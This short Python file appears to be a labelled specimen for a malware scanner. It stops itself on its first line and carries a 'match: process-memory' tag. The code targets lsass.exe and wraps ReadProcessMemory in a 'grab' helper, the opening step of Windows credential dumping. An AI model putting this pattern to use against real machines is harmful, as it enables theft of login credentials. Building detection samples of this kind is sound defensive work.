raise SystemExit("specimen: not to be run")
from ctypes import windll as w

read = w.kernel32.ReadProcessMemory
NAME = "lsass.exe"

def grab(handle, place, buffer):
    read(handle, place, buffer, 4096, None)  # match: process-memory
